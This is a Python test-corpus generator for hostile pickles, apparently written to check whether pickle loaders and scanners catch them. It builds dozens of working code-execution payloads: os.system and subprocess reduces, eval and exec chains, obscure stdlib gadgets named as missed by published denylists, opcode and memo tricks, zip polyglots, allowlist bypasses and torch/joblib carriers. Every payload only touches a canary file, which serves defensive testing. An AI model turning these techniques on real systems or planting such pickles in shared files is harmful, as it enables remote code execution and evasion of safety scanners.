"""The hostile-pickle corpus: every technique is built here from opcodes or a library's own saver,
and each one, if it ever runs, creates its own canary file (``canary-<technique>``)."""

import io
import os
import pickle
import struct
import zipfile

BENIGN = {"weights": [1.5, 2.5], "labels": ("cat", "dog")}


class G:
    """A global ``module.name`` (GLOBAL below protocol 4, STACK_GLOBAL from 4)."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class Call:
    """``func(*args)`` by REDUCE."""

    def __init__(self, func, *args):
        self.func, self.args = func, args


class Raw:
    """Opcodes spliced in as they are."""

    def __init__(self, data):
        self.data = data


def _text(value, proto):
    data = value.encode()
    if proto == 0:
        assert b"\n" not in data and b"\\" not in data
        return b"V" + data + b"\n"
    if proto >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def emit(node, proto):
    """The opcodes that push ``node``, in the encoding of ``proto``."""
    if isinstance(node, Raw):
        return node.data
    if isinstance(node, str):
        return _text(node, proto)
    if isinstance(node, bool) or node is None:
        return {True: b"I01\n", False: b"I00\n", None: b"N"}[node]
    if isinstance(node, int):
        return b"I%d\n" % node if proto == 0 else b"J" + struct.pack("<i", node)
    if isinstance(node, bytes):
        assert proto >= 3, "bytes need protocol 3"
        return b"B" + struct.pack("<I", len(node)) + node
    if isinstance(node, list):
        return b"(" + b"".join(emit(x, proto) for x in node) + b"l"
    if isinstance(node, tuple):
        return b"(" + b"".join(emit(x, proto) for x in node) + b"t"
    if isinstance(node, dict):
        return b"(" + b"".join(emit(k, proto) + emit(v, proto) for k, v in node.items()) + b"d"
    if isinstance(node, G):
        if proto >= 4:
            return _text(node.module, proto) + b"\x94" + _text(node.name, proto) + b"\x94\x93"
        return b"c" + node.module.encode() + b"\n" + node.name.encode() + b"\n"
    if isinstance(node, Call):
        return emit(node.func, proto) + emit(tuple(node.args), proto) + b"R"
    raise TypeError(f"cannot emit {node!r}")


def assemble(node, proto=2):
    header = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return header + emit(node, proto) + b"."


def touch(path):
    return f"touch {path}"


def py_touch(path):
    return f"open({str(path)!r}, 'w').close()"


def sh_call(path):
    return Call(G("os", "system"), touch(path))


class _Reduce:
    """Lets Python's own pickler write ``func(*args)`` in any protocol."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def _inner_code(path):
    import marshal

    return marshal.dumps(compile(py_touch(path), "<corpus>", "exec"))


def _deep(path, depth):
    return b"\x80\x02" + b"]" * depth + emit(sh_call(path), 2) + b"a" * depth + b"."


def _build_setstate(path):
    # A SimpleNamespace whose instance dict gets __setstate__ = os.system; the second BUILD calls it.
    ns = emit(Call(G("types", "SimpleNamespace")), 2)
    first = b"}" + emit("__setstate__", 2) + emit(G("os", "system"), 2) + b"sb"
    return b"\x80\x02" + ns + first + emit(touch(path), 2) + b"b."


def _memo_confusion(path):
    # 'os'/'getcwd' are memoized, then memo slot 1 is overwritten with 'system' before STACK_GLOBAL.
    return (
        b"\x80\x04" + _text("os", 4) + b"q\x00" + _text("getcwd", 4) + b"q\x01" + b"0" + _text("system", 4)
        + b"q\x01" + b"0" + b"h\x00h\x01\x93" + _text(touch(path), 4) + b"\x85R."
    )


def _split_frames(path):
    call = sh_call(path)
    head, args = emit(call.func, 4), emit(tuple(call.args), 4)
    return b"\x80\x04" + _frame(head) + _frame(args) + _frame(b"R.")


def _zip_polyglot(path):
    """A pickle whose bytes are also a valid zip archive (zip readers look at the end)."""
    head = assemble(sh_call(path), 2)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps(BENIGN))
    return head + archive.getvalue()


# (technique, family, loader, build(canary_path) -> bytes). Loaders are defined in child.py.
TECHNIQUES = [
    # Calls of process-spawning functions, across protocols and encodings.
    ("os.system-p0-text", "reduce", "loads", lambda p: assemble(sh_call(p), 0)),
    ("posix.system-p1-binary", "reduce", "loads", lambda p: assemble(Call(G("posix", "system"), touch(p)), 1)),
    ("os.system-p2-pickler", "reduce", "loads", lambda p: pickle.dumps(_Reduce(os.system, touch(p)), protocol=2)),
    ("os.system-p4-stack-global", "reduce", "loads", lambda p: assemble(sh_call(p), 4)),
    ("os.system-p5-pickler-frames", "reduce", "loads", lambda p: pickle.dumps(_Reduce(os.system, touch(p)), protocol=5)),
    ("os.popen", "reduce", "loads", lambda p: assemble(Call(G("os", "popen"), touch(p)))),
    ("os.spawnlp", "reduce", "loads", lambda p: assemble(Call(G("os", "spawnlp"), 0, "touch", "touch", str(p)))),
    ("subprocess.call", "reduce", "loads", lambda p: assemble(Call(G("subprocess", "call"), ["touch", str(p)]))),
    ("subprocess.run", "reduce", "loads", lambda p: assemble(Call(G("subprocess", "run"), ["touch", str(p)]))),
    ("subprocess.check_output", "reduce", "loads", lambda p: assemble(Call(G("subprocess", "check_output"), ["touch", str(p)]))),
    ("subprocess.Popen", "reduce", "loads", lambda p: assemble(Call(G("subprocess", "Popen"), ["touch", str(p)]))),
    ("subprocess.getoutput", "reduce", "loads", lambda p: assemble(Call(G("subprocess", "getoutput"), touch(p)))),
    # Python code by evaluation, attribute chains and code objects.
    ("builtins.eval", "eval", "loads", lambda p: assemble(Call(G("builtins", "eval"), py_touch(p)))),
    ("builtins.exec", "eval", "loads", lambda p: assemble(Call(G("builtins", "exec"), py_touch(p)))),
    ("builtins.getattr-chain", "eval", "loads", lambda p: assemble(Call(Call(G("builtins", "getattr"), Call(G("builtins", "__import__"), "os"), "system"), touch(p)))),
    ("sys.modules-getitem", "eval", "loads", lambda p: assemble(Call(Call(G("builtins", "getattr"), Call(G("operator", "getitem"), G("sys", "modules"), "os"), "system"), touch(p)))),
    ("importlib.import_module", "eval", "loads", lambda p: assemble(Call(Call(G("builtins", "getattr"), Call(G("importlib", "import_module"), "os"), "system"), touch(p)))),
    ("compile-code-object-exec", "eval", "loads", lambda p: assemble(Call(G("builtins", "exec"), Call(G("builtins", "compile"), py_touch(p), "<x>", "exec")))),
    ("marshal.loads-FunctionType", "eval", "loads", lambda p: assemble(Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), _inner_code(p)), Call(G("builtins", "globals")))), 4)),  # the loader's globals: 3.9 finds no builtins in {}
    ("pickle.loads-inner-pickle", "eval", "loads", lambda p: assemble(Call(G("pickle", "loads"), assemble(sh_call(p))), 4)),
    ("_pickle.loads-inner-pickle", "eval", "loads", lambda p: assemble(Call(G("_pickle", "loads"), assemble(sh_call(p))), 4)),
    # Gadgets that published denylists missed.
    ("pkgutil.resolve_name", "gadget", "loads", lambda p: assemble(Call(Call(G("pkgutil", "resolve_name"), "os:system"), touch(p)))),
    ("timeit.timeit", "gadget", "loads", lambda p: assemble(Call(G("timeit", "timeit"), py_touch(p), "pass", G("time", "perf_counter"), 1))),
    ("cProfile.run", "gadget", "loads", lambda p: assemble(Call(G("cProfile", "run"), py_touch(p), os.devnull))),
    ("uuid._get_command_stdout", "gadget", "loads", lambda p: assemble(Call(G("uuid", "_get_command_stdout"), "touch", str(p)))),
    ("imaplib.IMAP4_stream", "gadget", "loads", lambda p: assemble(Call(G("imaplib", "IMAP4_stream"), touch(p)))),
    ("pydoc.pipepager", "gadget", "loads", lambda p: assemble(Call(G("pydoc", "pipepager"), "", touch(p)))),
    ("code.InteractiveInterpreter", "gadget", "loads", lambda p: assemble(Call(Call(G("operator", "methodcaller"), "runsource", py_touch(p)), Call(G("code", "InteractiveInterpreter"))))),
    ("functools.partial", "gadget", "loads", lambda p: assemble(Call(Call(G("functools", "partial"), G("os", "system"), touch(p))))),
    ("operator.methodcaller", "gadget", "loads", lambda p: assemble(Call(Call(G("operator", "methodcaller"), "system", touch(p)), Call(G("importlib", "import_module"), "os")))),
    ("builtins.map-list", "gadget", "loads", lambda p: assemble(Call(G("builtins", "list"), Call(G("builtins", "map"), G("os", "system"), [touch(p)])))),
    # Opcodes other than REDUCE that call or build.
    ("INST-p0", "opcode", "loads", lambda p: b"(V" + touch(p).encode() + b"\nios\nsystem\n."),
    ("OBJ-p1", "opcode", "loads", lambda p: b"(" + emit(G("os", "system"), 1) + emit(touch(p), 1) + b"o."),
    ("NEWOBJ-partial", "opcode", "loads", lambda p: b"\x80\x02" + emit(G("functools", "partial"), 2) + emit((G("os", "system"), touch(p)), 2) + b"\x81)R."),
    ("NEWOBJ_EX-partial", "opcode", "loads", lambda p: b"\x80\x04" + emit(G("functools", "partial"), 4) + emit((G("os", "system"), touch(p)), 4) + b"}\x92)R."),
    ("BUILD-__setstate__", "opcode", "loads", _build_setstate),
    ("STACK_GLOBAL-memoized-names", "opcode", "loads", lambda p: b"\x80\x04" + _text("os", 4) + b"\x94" + _text("system", 4) + b"\x94h\x00h\x01\x93" + _text(touch(p), 4) + b"\x85R."),
    ("memo-overwrite-confusion", "opcode", "loads", _memo_confusion),
    ("EXT1-copyreg-code", "opcode", "loads", lambda p: b"\x80\x02\x82\xf0" + emit(touch(p), 2) + b"\x85R."),
    ("PERSID-hostile-persistent_load", "opcode", "persistent", lambda p: b"Pos:system:" + touch(p).encode() + b"\n."),
    ("BINPERSID-hostile-persistent_load", "opcode", "persistent", lambda p: b"\x80\x02" + emit(f"os:system:{touch(p)}", 2) + b"Q."),
    ("p0-STRING-quoted", "opcode", "loads", lambda p: b"cos\nsystem\n(S'" + touch(p).encode() + b"'\ntR."),
    ("p0-dict-LIST-forms", "opcode", "loads", lambda p: b"(dp0\nVk\n" + emit(Call(G("subprocess", "call"), ["touch", str(p)]), 0) + b"s."),
    ("FRAME-split", "opcode", "loads", _split_frames),
    ("deep-nesting-100k", "opcode", "loads", lambda p: _deep(p, 100_000)),
    # Files: appended data, polyglots, streams.
    ("appended-after-listed-STOP-file", "file", "two_loads_file", lambda p: pickle.dumps(BENIGN, protocol=4) + assemble(sh_call(p))),
    ("appended-after-listed-STOP-pipe", "file", "two_loads_pipe", lambda p: pickle.dumps(BENIGN, protocol=4) + assemble(sh_call(p))),
    ("zip-pickle-polyglot", "file", "load_file", _zip_polyglot),
    # Through a [[trust]] transport whose globals are bounded to myapp.tasks.*.
    ("trust-dotted-name-STACK_GLOBAL", "trust", "transport", lambda p: assemble(Call(G("myapp.tasks", "os.system"), touch(p)), 4)),
    ("trust-dotted-name-GLOBAL-p4", "trust", "transport", lambda p: b"\x80\x04cmyapp.tasks\nos.system\n" + emit((touch(p),), 4) + b"R."),
    ("trust-computed-name", "trust", "transport", lambda p: b"\x80\x04" + _text("myapp.tasks", 4) + emit(Call(G("myapp.tasks", "echo"), "os.system"), 4) + b"\x93" + emit((touch(p),), 4) + b"R."),
    ("trust-plain-os.system", "trust", "transport", lambda p: assemble(sh_call(p), 4)),
    ("trust-EXT-code-cached", "trust", "transport", lambda p: b"\x80\x02\x82\xf0" + emit(touch(p), 2) + b"\x85R."),
    # The loader libraries' own formats.
    ("torch.load-weights_only=False", "carrier", "torch", None),
    ("joblib.load", "carrier", "joblib", None),
    ("numpy.load-object-array", "carrier", "numpy", None),
    ("torch.load-zip-pickle-polyglot", "carrier", "torch_polyglot", None),
]

#: A pickle the app itself loaded earlier (approved by hash): it resolves EXT code 240, which
#: leaves os.system in copyreg's extension cache for later loads.
EXT_WARMUP = b"\x80\x02\x82\xf0."
EXT_CODE = 240
